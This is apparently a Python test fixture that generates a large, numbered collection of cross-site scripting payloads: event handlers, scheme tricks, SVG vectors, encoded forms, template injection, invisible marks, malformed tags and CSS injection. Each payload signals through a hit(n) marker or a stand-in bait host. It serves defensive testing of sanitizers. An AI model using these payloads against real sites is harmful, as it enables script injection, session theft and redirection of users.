"""Texts that would run a script where a page took them for more than text. Made here, family by family.

Each calls ``hit(n)``, by which a test tells that it ran, or asks the address BAIT for something.
"""

import base64
from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import quote

BAIT = "http://bait.test"

TAGS = (
    "img",
    "svg",
    "video",
    "audio",
    "body",
    "input",
    "details",
    "iframe",
    "object",
    "marquee",
    "select",
    "math",
    "a",
)
EVENTS = ("onerror", "onload", "onfocus", "onclick", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter")
FRAMES = ("{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "</pre>{}", "-->{}", "]]>{}", "</script>{}", '\\">{}')
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:", "javascript&colon;"),
    *("\x01javascript:", "vbscript:", "data:text/html,", "data:image/svg+xml,", "view-source:javascript:"),
)
BRACES = (
    "{{{{{}}}}}",
    "{{% if {} %}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "[[{}]]",
    "{{{{ ''.__class__ }}}}{}",
    "@({})",
)
MARKS = ("\u202e", "\u2066", "\u200f", "\u2028", "\ufeff", "\u200b", "\u00ad", "\u061c")
STYLES = (
    "x:expression({0})",
    "background:url(javascript:{0})",
    "background:url({1}/style)",
    "behavior:url({1}/htc)",
    "-moz-binding:url({1}/xbl)",
    "animation:x;--y:{0}",
    "}}</style><script>{0}</script>",
    "@import '{1}/sheet'",
)


def payloads() -> list[str]:
    """All of them, each with its own number."""
    return [text for number, family in enumerate(_families()) for text in _numbered(family, number)]


def _numbered(family: Iterator[str], number: int) -> Iterator[str]:
    for place, text in enumerate(family):
        yield text.replace("HIT", f"hit({number * 1000 + place})")


def _families() -> Iterator[Iterator[str]]:
    yield from (_events(), _framed(), _addresses(), _vectors(), _encoded(), _braces(), _hidden(), _broken(), _styled())


def _events() -> Iterator[str]:
    """Every event on every tag."""
    for tag, event in product(TAGS, EVENTS):
        yield f"<{tag} src=x open autofocus tabindex=0 {event}=HIT>"


def _framed() -> Iterator[str]:
    """Out of whatever it may stand in, as a tag or as one more attribute."""
    for frame, text in product(FRAMES, ("<script>HIT</script>", "<img src=x onerror=HIT>", f"<img src={BAIT}/a>")):
        yield frame.format(text)
    for quotes, event in product(('"', "'", "`", ""), EVENTS):
        yield f"x{quotes} {event}={quotes}HIT{quotes} autofocus tabindex={quotes}0"


def _addresses() -> Iterator[str]:
    """Addresses that are programs, bare and in whatever takes one."""
    for scheme, place in product(SCHEMES, ("{}", '<a href="{}">x</a>', '<iframe src="{}"></iframe>', "http://x/{}")):
        yield place.format(f"{scheme}HIT//")


def _vectors() -> Iterator[str]:
    """Pictures and formulas that hold programs."""
    yield from (
        "<svg><script>HIT</script></svg>",
        "<svg/onload=HIT>",
        "<svg><a href=javascript:HIT><text>x</text></a></svg>",
    )
    yield from ("<svg><animate onbegin=HIT attributeName=x dur=1s>", "<svg><set onbegin=HIT attributeName=x>")
    yield from ("<math><mtext><img src=x onerror=HIT></mtext></math>", "<math href=javascript:HIT>x</math>")
    yield from (
        "<svg><foreignObject><script>HIT</script></foreignObject></svg>",
        f"<svg><use href={BAIT}/u#x></use></svg>",
    )
    yield from (f"<svg><image href={BAIT}/i></image></svg>", "<svg><style><img src=x onerror=HIT></style></svg>")


def _encoded() -> Iterator[str]:
    """The same, written in other ways, which must not be undone."""
    for text in ("<script>HIT</script>", "<img src=x onerror=HIT>", "<svg onload=HIT>", "javascript:HIT"):
        yield from (escape(text), quote(text), quote(quote(text)), "".join(f"&#{ord(one)};" for one in text))
        yield from ("".join(f"&#x{ord(one):x}" for one in text), "".join(f"\\u{ord(one):04x}" for one in text))
        yield from ("".join(f"\\x{ord(one):02x}" for one in text), "".join(f"+AD{one}-" for one in text))
        yield base64.b64encode(text.encode()).decode()
        yield text.replace("<", "\uff1c").replace(">", "\uff1e")
        yield text.replace("<", "\u2039").replace(">", "\u203a")


def _braces() -> Iterator[str]:
    """What templates of many kinds would work out."""
    for brace, act in product(BRACES, ("HIT", "constructor.constructor('HIT')()", "7*7")):
        yield brace.format(act)


def _hidden() -> Iterator[str]:
    """Marks that turn or hide what stands around them."""
    for mark, text in product(MARKS, ("<script>HIT</script>", "<im{}g src=x onerror=HIT>", "java{}script:HIT")):
        yield mark + text.format(mark) + mark


def _broken() -> Iterator[str]:
    """Tags that are not whole, doubled, or end where nobody expects it."""
    yield from (
        "<script>HIT",
        "<scr<script>ipt>HIT</scr</script>ipt>",
        "<img src=x onerror=HIT",
        "<<script>HIT//<</script>",
    )
    yield from (
        "<script/x>HIT</script >",
        "<img/src=x/onerror=HIT>",
        "<img\x0csrc=x\x0conerror=HIT>",
        "<a\x0bhref=javascript:HIT>",
    )
    yield from (
        "<!--><img src=x onerror=HIT>-->",
        "<![CDATA[><img src=x onerror=HIT>]]>",
        "<?xml?><script>HIT</script>",
    )
    yield from (
        f"<base href={BAIT}/>",
        f"<link rel=stylesheet href={BAIT}/l>",
        f"<meta http-equiv=refresh content=0;url={BAIT}>",
    )
    yield from (
        f"<form action={BAIT}><button>x",
        f"<script src={BAIT}/s></script>",
        "<template><script>HIT</script></template>",
    )


def _styled() -> Iterator[str]:
    """Styles that load or run something."""
    for style, place in product(STYLES, ("<style>*{{{}}}</style>", '<p style="{}">x</p>', '" style="{}')):
        yield place.format(style.format("HIT", BAIT))
